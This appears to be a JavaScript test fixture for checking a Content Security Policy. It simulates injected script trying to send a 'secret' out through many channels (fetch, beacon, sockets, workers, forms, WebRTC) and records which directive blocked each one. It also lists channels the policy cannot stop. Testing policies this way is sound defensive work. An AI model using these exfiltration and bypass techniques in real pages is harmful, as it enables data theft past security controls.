// Code that has got into the page and wants to send something: it tries the way named in the
// attribute data-attempt, to the address in data-address, and writes into data-outcome which
// directive of the policy refused it, or that it got out.
(() => {
  const root = document.documentElement;
  const outcome = (text) => root.setAttribute('data-outcome', text);
  const out = () => outcome('got out');
  const ignore = () => {};
  const inWorker = (code) => {
    const report =
      "addEventListener('securitypolicyviolation', (e) => postMessage(e.effectiveDirective));";
    const blob = new Blob([report, code], { type: 'text/javascript' });
    const worker = new Worker(URL.createObjectURL(blob));
    worker.onmessage = (event) => outcome(event.data);
    worker.onerror = (event) => event.preventDefault();
  };
  // A refused frame or object has a "load" event too, so none tells that it got out: the server does.
  const insert = (tag, properties) => {
    document.body.append(Object.assign(document.createElement(tag), properties));
  };

  const ways = {
    fetch: (url) => fetch(url, { method: 'POST', body: 'secret', mode: 'no-cors' }).then(out, ignore),
    request: (url) => {
      const request = new XMLHttpRequest();
      request.onload = out;
      request.open('GET', url);
      request.send();
    },
    beacon: (url) => navigator.sendBeacon(url, 'secret'),
    socket: (url) => { new WebSocket(url.replace('http:', 'ws:')).onopen = out; },
    events: (url) => { new EventSource(url).onopen = out; },
    image: (url) => insert('img', { src: url, onload: out }),
    script: (url) => insert('script', { src: url, onload: out }),
    inlineScript: () =>
      insert('script', { text: "document.documentElement.setAttribute('data-outcome', 'got out')" }),
    style: (url) => insert('link', { rel: 'stylesheet', href: url, onload: out }),
    frame: (url) => insert('iframe', { src: url }),
    object: (url) => insert('object', { data: url }),
    form: (url) => {
      const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
      document.body.append(form);
      form.submit();
    },
    eval: () => { window['ev' + 'al']('1'); out(); },
    fetchInWorker: (url) => inWorker(`fetch('${url}').then(() => postMessage('got out'), () => {})`),
    importInWorker: (url) => inWorker(`importScripts('${url}'); postMessage('got out');`),
    socketInWorker: (url) =>
      inWorker(`new WebSocket('${url.replace('http:', 'ws:')}').onopen = () => postMessage('got out')`),
  };

  // What the policy cannot forbid.
  Object.assign(ways, {
    navigation: (url) => { location.href = `${url}?navigation`; },
    workerOfServer: (url) => { new Worker(`${url}?workerOfServer`); },
    serviceWorkerOfServer: (url) =>
      navigator.serviceWorker.register(`${url}?serviceWorkerOfServer`).catch(ignore),
    // The first in the head counts.
    manifest: (url) => document.head.prepend(
      Object.assign(document.createElement('link'), { rel: 'manifest', href: `${url}?manifest` })),
    prefetch: (url) => insert('link', { rel: 'prefetch', href: `${url}?prefetch` }),
    download: (url) => {
      const link = Object.assign(document.createElement('a'), { href: `${url}?download`, download: 'x' });
      // From a file this would go to the address instead.
      if (location.protocol !== 'file:') link.click();
    },
    connectionInAdvance: (url) => insert('link', { rel: 'preconnect', href: url }),
    directConnection: async (host) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
      connection.createDataChannel('secret');
      await connection.setLocalDescription(await connection.createOffer());
    },
  });

  document.addEventListener('securitypolicyviolation', (event) => outcome(event.effectiveDirective));
  // Later, not at once: what a debugger runs, a driver's script included, may evaluate text.
  window.addEventListener('attempt', () => setTimeout(() => {
    try {
      ways[root.getAttribute('data-attempt')](root.getAttribute('data-address'));
    } catch (error) {
      // The policy's own event says more.
    }
  }));
})();
